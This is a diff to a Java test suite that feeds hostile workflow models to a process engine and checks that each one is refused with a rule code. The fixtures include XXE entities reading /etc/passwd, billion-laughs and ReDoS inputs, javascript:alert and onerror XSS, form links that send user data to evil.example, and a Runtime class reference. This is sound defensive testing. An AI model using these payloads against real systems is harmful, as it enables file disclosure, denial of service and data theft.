@@ -19,8 +19,8 @@ import org.junit.jupiter.params.provider.MethodSource;
 import org.sixstep.engine.EngineTest;
 
 /**
- * A process owner who means harm: each model is refused at every endpoint with a sentence that names file and element, nothing of it stays,
- * and the security log knows.
+ * A process owner who means harm: each model is refused at every endpoint with the code of a rule and a sentence that names file and element, nothing of it stays, and
+ * the security log knows.
  */
 class HostileModelTest extends EngineTest {
 
@@ -57,98 +57,99 @@ class HostileModelTest extends EngineTest {
     private static Stream<Arguments> diagrams() {
         return Stream.of(
                 attack("a class", MODEL, TASK, TASK.replace("delegateExpression=\"${remindReviewerDelegate}", "class=\"java.lang.Runtime"),
-                        "serviceTask_remindReviewer names a Java class"),
+                        ModelRule.JAVA_CLASS, "serviceTask_remindReviewer"),
                 attack("a class in the old namespace", MODEL, TASK,
                         TASK.replace("camunda:delegate",
                                 "xmlns:old=\"http://activiti.org/bpmn\" old:class=\"java.lang.Runtime\" camunda:delegate"),
-                        "serviceTask_remindReviewer names a Java class"),
+                        ModelRule.JAVA_CLASS, "serviceTask_remindReviewer"),
                 attack("a mail of its own", MODEL, TASK, TASK.replace("delegateExpression=\"${remindReviewerDelegate}", "type=\"mail"),
-                        "camunda:type"),
+                        ModelRule.WORKER, "serviceTask_remindReviewer"),
                 attack("an external worker", MODEL, TASK,
                         TASK.replace("delegateExpression=\"${remindReviewerDelegate}", "type=\"external\" camunda:topic=\"x"),
-                        "camunda:type"),
+                        ModelRule.WORKER, "serviceTask_remindReviewer"),
                 attack("a connector", MODEL, TASK,
                         TASK + inner("<camunda:connector><camunda:connectorId>http-connector</camunda:connectorId></camunda:connector>"),
-                        "uses a connector"),
+                        ModelRule.CONNECTOR, "serviceTask_remindReviewer"),
                 attack("a script in a mapping", MODEL, TASK, TASK + inner(
                         "<camunda:inputOutput><camunda:inputParameter name=\"x\"><camunda:script"
                                 + " scriptFormat=\"juel\">${1}</camunda:script>"
                                 + "</camunda:inputParameter></camunda:inputOutput>"),
-                        "contains a script"),
+                        ModelRule.SCRIPT, "serviceTask_remindReviewer"),
                 attack("a script as listener", MODEL, TASK, TASK + inner(
                         "<camunda:executionListener event=\"start\"><camunda:script"
                                 + " scriptFormat=\"feel\">1</camunda:script></camunda:executionListener>"),
-                        "contains a script"),
+                        ModelRule.SCRIPT, "serviceTask_remindReviewer"),
                 attack("a script from a resource", MODEL, CONDITION,
                         CONDITION.replace("xsi:type", "camunda:resource=\"deployment://x.js\" language=\"javascript\" xsi:type"),
-                        "loads a script from a resource"),
+                        ModelRule.SCRIPT_RESOURCE, "flow_answerToRevise"),
                 attack("a condition as script", MODEL, CONDITION,
                         CONDITION.replace("xsi:type", "language=\"juel\" xsi:type").replace("answerDecision == 'revise'",
                                 "''.getClass().getName() == 'x'"),
-                        "flow_answerToRevise sets an expression language"),
+                        ModelRule.SCRIPT_LANGUAGE, "flow_answerToRevise"),
                 attack("injection into a delegate", MODEL, TASK,
                         TASK + inner("<camunda:field name=\"records\"><camunda:string>x</camunda:string></camunda:field>"),
-                        "injects a value into a delegate"),
+                        ModelRule.FIELD_INJECTION, "serviceTask_remindReviewer"),
                 attack("a page as form", MODEL, REVIEW, "camunda:formKey=\"embedded:deployment:evil.html\"",
-                        "userTask_reviewAnswer shows a page"),
+                        ModelRule.FORM_KEY, "userTask_reviewAnswer"),
                 attack("a foreign address as form", MODEL, REVIEW, "camunda:formKey=\"https://evil.example/form\"",
-                        "userTask_reviewAnswer shows a page"),
-                attack("a script as form", MODEL, REVIEW, "camunda:formKey=\"javascript:alert(1)\"", "userTask_reviewAnswer"
-                        + " shows a page"),
-                attack("a step without form", MODEL, REVIEW, "", "userTask_reviewAnswer without a form"),
+                        ModelRule.FORM_KEY, "userTask_reviewAnswer"),
+                attack("a script as form", MODEL, REVIEW, "camunda:formKey=\"javascript:alert(1)\"", ModelRule.FORM_KEY,
+                        "userTask_reviewAnswer"),
+                attack("a step without form", MODEL, REVIEW, "", ModelRule.TASK_WITHOUT_FORM, "userTask_reviewAnswer"),
                 attack("a step whose form only seems to be one", MODEL, REVIEW, "xmlns:other=\"x\" other:formRef=\"reviewAnswer\"",
-                        "userTask_reviewAnswer without a form"),
+                        ModelRule.TASK_WITHOUT_FORM, "userTask_reviewAnswer"),
                 attack("a form by expression", MODEL, "camunda:formRef=\"reviewAnswer\"", "camunda:formRef=\"${answerDecision}\"",
-                        "uses an expression to choose what it calls or shows (formRef)"),
+                        ModelRule.COMPUTED_REFERENCE, "userTask_reviewAnswer"),
                 attack("a process by expression", "supportTicket.bpmn", "calledElement=\"resolveProblem\"", "calledElement=\"${outcome}\"",
-                        "uses an expression to choose what it calls or shows (calledElement)"),
+                        ModelRule.COMPUTED_REFERENCE, "callActivity_resolveProblem"),
                 attack("whatever is deployed next", "supportTicket.bpmn", " camunda:calledElementBinding=\"deployment\"", "",
-                        "calls the latest version of the process"),
+                        ModelRule.CALL_LATEST, "callActivity_resolveProblem"),
                 attack("what only seems to be deployed with it", "supportTicket.bpmn", "camunda:calledElementBinding",
-                        "xmlns:other=\"x\" other:calledElementBinding", "calls the latest version of the process"),
+                        "xmlns:other=\"x\" other:calledElementBinding", ModelRule.CALL_LATEST, "callActivity_resolveProblem"),
                 attack("a case", MODEL, TASK, TASK.replace("camunda:delegate", "camunda:caseRef=\"x\""
-                        + " camunda:delegate"), "calls a CMMN case"),
+                        + " camunda:delegate"), ModelRule.CMMN_CASE, "serviceTask_remindReviewer"),
                 attack("another's record by mapping", MODEL, TASK, TASK + inner(
                         "<camunda:inputOutput><camunda:inputParameter"
                                 + " name=\"ticketId\">1</camunda:inputParameter></camunda:inputOutput>"),
-                        "serviceTask_remindReviewer sets ticketId"),
+                        ModelRule.RECORD_ID, "serviceTask_remindReviewer"),
                 attack("the text of an error", MODEL, "</bpmn:process>",
                         "<bpmn:boundaryEvent id=\"boundary_leak\" attachedToRef=\"userTask_reviewAnswer\"><bpmn:errorEventDefinition"
                                 + " camunda:errorMessageVariable=\"leak\" />"
                                 + "</bpmn:boundaryEvent></bpmn:process>",
-                        "boundary_leak stores the text of an error"),
+                        ModelRule.ERROR_TEXT, "boundary_leak"),
                 attack("an exception by its class", MODEL, "</bpmn:definitions>",
                         "<bpmn:error id=\"error_any\" errorCode=\"java.lang.RuntimeException\" /></bpmn:definitions>",
-                        "error_any catches a Java exception"),
+                        ModelRule.JAVA_EXCEPTION, "error_any"),
                 attack("another's record by list", "resolveProblem.bpmn", "camunda:elementVariable=\"collaborator\" />",
-                        "><bpmn:inputDataItem name=\"ticketId\" /></bpmn:multiInstanceLoopCharacteristics>", "sets ticketId"),
+                        "><bpmn:inputDataItem name=\"ticketId\" /></bpmn:multiInstanceLoopCharacteristics>", ModelRule.RECORD_ID,
+                        "ticketId"),
                 attack("another's record by call", "supportTicket.bpmn", "source=\"ticketId\" target=\"ticketId\"",
-                        "source=\"owner\" target=\"ticketId\"", "sets ticketId"),
+                        "source=\"owner\" target=\"ticketId\"", ModelRule.RECORD_ID, "callActivity_resolveProblem"),
                 attack("another's record by constant", "supportTicket.bpmn", "source=\"ticketId\" target=\"ticketId\"",
-                        "sourceExpression=\"${'x'}\" target=\"ticketId\"", "sets ticketId"),
+                        "sourceExpression=\"${'x'}\" target=\"ticketId\"", ModelRule.RECORD_ID, "callActivity_resolveProblem"),
                 attack("another's record by result", MODEL, TASK,
                         TASK.replace("delegateExpression=\"${remindReviewerDelegate}",
                                 "expression=\"${'x'}\" camunda:resultVariable=\"answerId"),
-                        "sets answerId"),
+                        ModelRule.RECORD_ID, "serviceTask_remindReviewer"),
                 attack("a signal to everybody", MODEL, "<bpmn:messageEventDefinition messageRef=\"message_answerDrafted\" />",
-                        "<bpmn:signalEventDefinition />", "signal"),
+                        "<bpmn:signalEventDefinition />", ModelRule.SIGNAL, "startEvent_answerDrafted"),
                 attack("an event of two kinds", MODEL, "<bpmn:messageEventDefinition messageRef=\"message_answerDrafted\" />",
                         "<bpmn:messageEventDefinition messageRef=\"message_answerDrafted\" /><bpmn:linkEventDefinition name=\"x\" />",
-                        "has several event definitions"),
+                        ModelRule.EVENT_OF_SEVERAL_KINDS, "startEvent_answerDrafted"),
                 attack("no start event for"
                         + " problems", "supportTicket.bpmn", "name=\"support.problemReceived\"", "name=\"support.nothing\"",
-                        "no problem could be received"),
+                        ModelRule.MESSAGE_START, "supportTicket"),
                 attack("a document type", MODEL, "<bpmn:definitions", "<!DOCTYPE x SYSTEM \"http://127.0.0.1:9/x.dtd\"><bpmn:definitions",
-                        "A DOCTYPE is not allowed"),
+                        ModelRule.XML_DOCTYPE, ""),
                 attack("a file as entity", MODEL, "<bpmn:definitions",
-                        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><bpmn:definitions", "A DOCTYPE is not allowed"),
+                        "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><bpmn:definitions", ModelRule.XML_DOCTYPE, ""),
                 attack("a billion laughs", TABLE, "<definitions",
-                        "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\">]><definitions", "A DOCTYPE is not allowed"),
+                        "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\">]><definitions", ModelRule.XML_DOCTYPE, ""),
                 attack("a deep document", MODEL, "<bpmn:message id",
                         "<bpmn:documentation>" + "<x>".repeat(5000) + "</x>".repeat(5000) + "</bpmn:documentation><bpmn:message id",
-                        "levels of nested elements"),
+                        ModelRule.XML_SIZE, "levels"),
                 attack("a wide document", MODEL, "<bpmn:message id", "<bpmn:message name=\"x\"/>".repeat(25_000) + "<bpmn:message id",
-                        "more than 20000 elements"));
+                        ModelRule.XML_SIZE, "20000"));
     }
 
     private static Stream<Arguments> expressions() {
@@ -165,9 +166,10 @@ class HostileModelTest extends EngineTest {
                 .flatMap(expression -> Stream.of(
                         attack("listener " + expression, MODEL, TASK,
                                 TASK + inner("<camunda:executionListener event=\"start\" expression=\"" + expression + "\" />"),
-                                "serviceTask_remindReviewer"),
+                                ModelRule.EXPRESSION, "serviceTask_remindReviewer"),
                         attack("condition " + expression, MODEL, CONDITION,
-                                "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\">" + expression, "flow_answerToRevise")));
+                                "<bpmn:conditionExpression xsi:type=\"bpmn:tFormalExpression\">" + expression, ModelRule.EXPRESSION,
+                                "flow_answerToRevise")));
     }
 
     private static Stream<Arguments> endless() {
@@ -212,7 +214,7 @@ class HostileModelTest extends EngineTest {
                         "<bpmn:intermediateCatchEvent"
                                 + " id=\"again\"><bpmn:conditionalEventDefinition><bpmn:condition>${true}</bpmn:condition>"
                                 + "</bpmn:conditionalEventDefinition></bpmn:intermediateCatchEvent>")
-                        + END, "waits for a condition"));
+                        + END, ModelRule.CONDITIONAL_EVENT, "again"));
     }
 
     private static Stream<Arguments> forks() {
@@ -240,40 +242,40 @@ class HostileModelTest extends EngineTest {
                                 + "<bpmn:sequenceFlow id=\"b\" sourceRef=\"a\" targetRef=\"c\" /><bpmn:callActivity id=\"c\""
                                 + " calledElement=\"again\" camunda:calledElementBinding=\"deployment\" /></bpmn:process><bpmn:message"
                                 + " id=\"message_reporterAnswered\"",
-                        "which calls again again"),
+                        ModelRule.CALL_ENDLESS, "element c "),
                 attack("a timer of a millisecond", MODEL, DUE, "<bpmn:timeCycle>R/PT0.001S</bpmn:timeCycle>",
-                        "The interval must be at least one minute"),
+                        ModelRule.TIMER, "event_reviewOverdue"),
                 attack("a timer of nothing", MODEL, DUE, "<bpmn:timeCycle>R/PT0S</bpmn:timeCycle>",
-                        "The interval must be at least one minute"),
+                        ModelRule.TIMER, "event_reviewOverdue"),
                 attack("a timer since the beginning of time", MODEL, DUE, "<bpmn:timeCycle>R/1970-01-01T00:00:00/PT1M</bpmn:timeCycle>",
-                        "times already"),
+                        ModelRule.TIMER, "R/1970-01-01T00:00:00/PT1M"),
                 attack("a timer of each second", MODEL, DUE, "<bpmn:timeCycle>* * * * * ?</bpmn:timeCycle>",
-                        "more often than once a minute"),
+                        ModelRule.TIMER, "* * * * * ?"),
                 attack("a wait of nothing", MODEL, DUE, "<bpmn:timeDuration>PT0S</bpmn:timeDuration>",
-                        "The interval must be at least one minute"),
+                        ModelRule.TIMER, "event_reviewOverdue"),
                 attack("a thousand million copies", MODEL, TASK, TASK
                         + "<bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>1000000000</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>",
-                        "1 to 50"),
+                        ModelRule.MULTI_INSTANCE_NUMBER, "serviceTask_remindReviewer"),
                 attack("copies by expression", MODEL, TASK, TASK
                         + "<bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>${1000000000}</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>",
-                        "1 to 50"),
+                        ModelRule.MULTI_INSTANCE_NUMBER, "serviceTask_remindReviewer"),
                 attack("copies of copies", MODEL, END, "<bpmn:subProcess id=\"many\">"
                         + "<bpmn:serviceTask"
                         + " id=\"each\"><bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>50</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>"
                         + "</bpmn:serviceTask><bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>50</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics></bpmn:subProcess>"
                         + END,
-                        "the element each is multi-instance inside a multi-instance subprocess"),
+                        ModelRule.MULTI_INSTANCE_NESTED, "element each "),
                 attack("copies of a process with copies", "supportTicket.bpmn",
                         "calledElement=\"resolveProblem\" camunda:calledElementBinding=\"deployment\">",
                         "calledElement=\"resolveProblem\" camunda:calledElementBinding=\"deployment\">"
                                 + "<bpmn:multiInstanceLoopCharacteristics><bpmn:loopCardinality>50</bpmn:loopCardinality></bpmn:multiInstanceLoopCharacteristics>",
-                        "calls the process resolveProblem, which contains multi-instance steps"),
+                        ModelRule.CALL_REPEATED, "callActivity_resolveProblem"),
                 attack("retries without end", MODEL, TASK,
                         TASK + inner("<camunda:failedJobRetryTimeCycle>R1000000/PT0S</camunda:failedJobRetryTimeCycle>"),
-                        "has a retry cycle that is not allowed"),
+                        ModelRule.RETRY_CYCLE, "serviceTask_remindReviewer"),
                 attack("the first place in the queue", MODEL, TASK,
                         TASK.replace("camunda:delegate", "camunda:jobPriority=\"2147483647\" camunda:delegate"),
-                        "has a job priority"));
+                        ModelRule.JOB_PRIORITY, "serviceTask_remindReviewer"));
     }
 
     private static Stream<Arguments> tables() {
@@ -281,7 +283,7 @@ class HostileModelTest extends EngineTest {
                 Stream.of("juel", "javascript", "groovy", "Python")
                         .map(language -> attack("a table in " + language, TABLE, "<inputExpression ",
                                 "<inputExpression expressionLanguage=\"" + language + "\" ",
-                                "uses the expression language " + language)),
+                                ModelRule.TABLE_LANGUAGE, language)),
                 Stream.of("count(for i in 1..1000000000 return i)", "matches(\"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!\", \"(a+)+$\")",
                         "replace(\"a\", \"(a+)+$\", \"b\")", "decimal(1, 999999999)",
                         "number(\"1E999999999\")", "{a: \"xxxxxxxxxx\", b: a + a}.b", "summary.class.classLoader", "summary.getClass()",
@@ -294,57 +296,61 @@ class HostileModelTest extends EngineTest {
                         "if a in ".repeat(7) + "a" + " then ? else ?".repeat(7), "abs((abs((abs((1))))))",
                         "(".repeat(7) + "1", "(]".repeat(4) + "1", "`\"` + " + "(".repeat(7) + "1", "/* \" */" + "(".repeat(7) + "1",
                         "// \"\n" + "[".repeat(7) + "1")
-                        .map(feel -> attack("FEEL " + feel, TABLE, CELL, "<text>" + feel + "</text>", TABLE + ": the element ")),
+                        .map(feel -> attack("FEEL " + feel, TABLE, CELL, "<text>" + feel + "</text>", ModelRule.FEEL,
+                                "assignPriority.dmn: the element ")),
                 Stream.of(attack("a file full of FEEL", TABLE, CELL, "<text>" + "1".repeat(100_001) + "</text>",
-                        "too much FEEL")))
+                        ModelRule.FEEL_SIZE, "assignPriority.dmn")))
                 .flatMap(each -> each);
     }
 
     private static Stream<Arguments> forms() {
         return Stream.of(
                 attack("a page of HTML", FORM, "\"type\": \"text\"", "\"type\": \"html\", \"content\": \"<b>x</b>\"",
-                        "has the type 'html'"),
+                        ModelRule.FIELD_TYPE, "html"),
                 attack("a frame", FORM, "\"type\": \"text\"", "\"type\": \"iframe\", \"url\": \"https://evil.example\"",
-                        "has the type 'iframe'"),
+                        ModelRule.FIELD_TYPE, "iframe"),
                 attack("a picture that tells", FORM, "\"type\": \"text\"",
-                        "\"type\": \"image\", \"source\": \"=\\\"https://evil.example/\\\" + reporterName\"", "has the type 'image'"),
-                attack("a link", FORM, FACTS, "\"text\": \"[click here](https://evil.example/{{facts}})\"", "contains an address"),
-                attack("a link by reference", FORM, FACTS, "\"text\": \"[click here][x]\"", "contains an address"),
-                attack("a bare address", FORM, FACTS, "\"text\": \"see www.evil.example\"", "contains an address"),
-                attack("a script", FORM, FACTS, "\"text\": \"[x](javascript:alert(1))\"", "contains an address"),
-                attack("HTML", FORM, FACTS, "\"text\": \"<img src=x onerror=alert(1)>\"", "contains an address"),
+                        "\"type\": \"image\", \"source\": \"=\\\"https://evil.example/\\\" + reporterName\"", ModelRule.FIELD_TYPE,
+                        "image"),
+                attack("a link", FORM, FACTS, "\"text\": \"[click here](https://evil.example/{{facts}})\"", ModelRule.TEXT_ADDRESS,
+                        "the field "),
+                attack("a link by reference", FORM, FACTS, "\"text\": \"[click here][x]\"", ModelRule.TEXT_ADDRESS, "the field "),
+                attack("a bare address", FORM, FACTS, "\"text\": \"see www.evil.example\"", ModelRule.TEXT_ADDRESS, "the field "),
+                attack("a script", FORM, FACTS, "\"text\": \"[x](javascript:alert(1))\"", ModelRule.TEXT_ADDRESS, "the field "),
+                attack("HTML", FORM, FACTS, "\"text\": \"<img src=x onerror=alert(1)>\"", ModelRule.TEXT_ADDRESS, "the field "),
                 attack("a computed text", FORM, FACTS, "\"text\": \"=\\\"ht\\\" + \\\"tps://evil.example/\\\" + reporterName\"",
-                        "has an expression as its text"),
+                        ModelRule.TEXT_EXPRESSION, "the field "),
                 attack("a computed part", FORM, FACTS, "\"text\": \"{{\\\"ht\\\" + \\\"tps://evil.example/\\\" + reporterName}}\"",
-                        "Only names are allowed in braces"),
+                        ModelRule.TEXT_BRACES, "the field "),
                 attack("an endless condition", FORM, FACTS,
                         FACTS + ", \"conditional\": {\"hide\": \"=count(for i in 1..1000000000 return i) > 0\"}",
-                        "tables and forms may not use"),
+                        ModelRule.FEEL, "the field "),
                 attack("many conditions", FORM, FACTS,
                         FACTS + "}" + ", {\"type\": \"text\", \"conditional\": {\"hide\": \"=true\"}}".repeat(101)
                                 + ", {\"type\": \"text\"",
-                        "more than 100 conditions"),
+                        ModelRule.FORM_CONDITIONS, "100"),
                 attack("a condition in brackets", FORM, FACTS, FACTS + ", \"conditional\": {\"hide\": \"=" + "(".repeat(40) + "1\"}",
-                        "brackets"),
+                        ModelRule.FEEL, "the field "),
                 attack("a pattern of copies", FORM, FACTS, FACTS + ", \"validate\": {\"pattern\": \"((){2000000000}){2000000000}\"}",
-                        "too large when its counts are expanded"),
+                        ModelRule.FIELD_PATTERN, "the field "),
                 attack("a pattern that looks ahead", FORM, FACTS, FACTS + ", \"validate\": {\"pattern\": \"^(?=.*x)(.+)+$\"}",
-                        "because of (?=: lookahead"),
+                        ModelRule.FIELD_PATTERN, "(?="),
                 attack("a text that is a field", FORM, FACTS, "\"text\": \"{{reviewComment}}\"",
-                        "the field reviewComment is also displayed in a text"),
+                        ModelRule.FIELD_DISPLAYED, "reviewComment"),
                 attack("a deep form", FORM, "\"components\": [", "\"x\": " + "[".repeat(5000) + "]".repeat(5000) + ", \"components\": [",
-                        "Not a Camunda Form"),
-                attack("two keys of one name", FORM, "\"components\": [", "\"components\": [], \"components\": [", "Not a Camunda Form"));
+                        ModelRule.FORM, "reviewAnswer.form"),
+                attack("two keys of one name", FORM, "\"components\": [", "\"components\": [], \"components\": [", ModelRule.FORM,
+                        "reviewAnswer.form"));
     }
 
     @ParameterizedTest(name = "{0}")
     @MethodSource("attacks")
-    void isRefusedAtTheEngineApi(String name, String file, String right, String wrong, String sentence) {
+    void isRefusedAtTheEngineApi(String name, String file, String right, String wrong, ModelRule rule, String named) {
         Map<String, String> files = changed(file, right, wrong);
 
         HttpResponse<String> answer = deploy("owner", DeploymentRoutes.body(files));
 
-        assertRefused(answer, file, sentence);
+        assertRefused(answer, file, rule, named);
     }
 
     @Test
@@ -356,7 +362,7 @@ class HostileModelTest extends EngineTest {
                     Map<String, String> files = changed(attack[1].toString(), attack[2].toString(), attack[3].toString());
                     HttpResponse<String> answer = browser.send(DeploymentRoutes.WEB_APPLICATIONS, DeploymentRoutes.MULTIPART,
                             DeploymentRoutes.body(files));
-                    assertRefused(answer, attack[1].toString(), attack[4].toString());
+                    assertRefused(answer, attack[1].toString(), (ModelRule) attack[4], attack[5].toString());
                 });
     }
 
@@ -374,7 +380,7 @@ class HostileModelTest extends EngineTest {
         deployments++;
 
         assertRefused(post("owner", "/engine-rest/deployment/" + good.getId() + "/redeploy", "{}"), MODEL,
-                "serviceTask_remindReviewer names a Java class");
+                ModelRule.JAVA_CLASS, "serviceTask_remindReviewer");
     }
 
     @ParameterizedTest
@@ -395,18 +401,18 @@ class HostileModelTest extends EngineTest {
     @Test
     void aBigFileAndManyFilesAreRefused() {
         assertThat(deploy("owner", DeploymentRoutes.body(Map.of("big.bpmn", "<x>" + "y".repeat(2_100_000) + "</x>"))).body())
-                .contains("big.bpmn is too large");
+                .contains("big.bpmn", code(ModelRule.FILE_SIZE));
         Map<String, String> many = IntStream.range(0, 300).boxed().collect(Collectors.toMap(i -> "f" + i + ".form", i -> "{}"));
-        assertThat(deploy("owner", DeploymentRoutes.body(many)).body()).contains("too many or too large files");
+        assertThat(deploy("owner", DeploymentRoutes.body(many)).body()).contains(code(ModelRule.DEPLOYMENT_SIZE));
     }
 
     @Test
     void manyProcessesAndManyStartsByTimerAreRefused() {
         assertThat(deploy("owner", DeploymentRoutes.body(Map.of("many.bpmn", definitions(51, "")))).body())
-                .contains("Too many processes");
+                .contains(code(ModelRule.PROCESSES));
         String timer = "<bpmn:startEvent><bpmn:timerEventDefinition><bpmn:timeCycle>R/PT1M</bpmn:timeCycle></bpmn:timerEventDefinition></bpmn:startEvent>";
         assertThat(deploy("owner", DeploymentRoutes.body(Map.of("many.bpmn", definitions(1, timer.repeat(51))))).body())
-                .contains("50 timer start events");
+                .contains(code(ModelRule.PROCESSES));
     }
 
     private static String definitions(int processes, String inside) {
@@ -433,7 +439,7 @@ class HostileModelTest extends EngineTest {
     @Test
     void aTenantIsRefused() {
         assertThat(deploy("owner", DeploymentRoutes.body(DeploymentRoutes.files(), "tenant-id", "other")).body())
-                .contains("Tenants are not supported");
+                .contains(code(ModelRule.TENANT));
     }
 
     @Test
@@ -453,12 +459,16 @@ class HostileModelTest extends EngineTest {
         assertThat(refusals("agent")).isEqualTo("not allowed to deploy");
     }
 
-    private void assertRefused(HttpResponse<String> answer, String file, String sentence) {
+    private void assertRefused(HttpResponse<String> answer, String file, ModelRule rule, String named) {
         assertThat(answer.statusCode()).as(answer.body()).isEqualTo(400);
-        assertThat(answer.body()).contains(file).contains(sentence);
+        assertThat(answer.body()).contains(file, named, code(rule));
         assertThat(engine.getRepositoryService().createDeploymentQuery().count()).as("deployments").isEqualTo(deployments);
         assertThat(canary.touched).as("evaluated").isZero();
-        assertThat(refusals("owner")).contains(sentence);
+        assertThat(refusals("owner")).contains(named, code(rule));
+    }
+
+    private static String code(ModelRule rule) {
+        return "[" + rule.code() + "]";
     }
 
     private String refusals(String user) {
@@ -513,14 +523,14 @@ class HostileModelTest extends EngineTest {
     }
 
     private static Arguments circle(String name, String added) {
-        return attack(name, MODEL, END, added + END, "run forever");
+        return attack(name, MODEL, END, added + END, ModelRule.LOOP_ENDLESS, "");
     }
 
     private static Arguments fork(String name, String added) {
-        return attack(name, MODEL, END, added + END, "starts parallel paths that lead back to it");
+        return attack(name, MODEL, END, added + END, ModelRule.LOOP_FORKED, "");
     }
 
-    private static Arguments attack(String name, String file, String right, String wrong, String sentence) {
-        return Arguments.of(name, file, right, wrong, sentence);
+    private static Arguments attack(String name, String file, String right, String wrong, ModelRule rule, String named) {
+        return Arguments.of(name, file, right, wrong, rule, named);
     }
 }
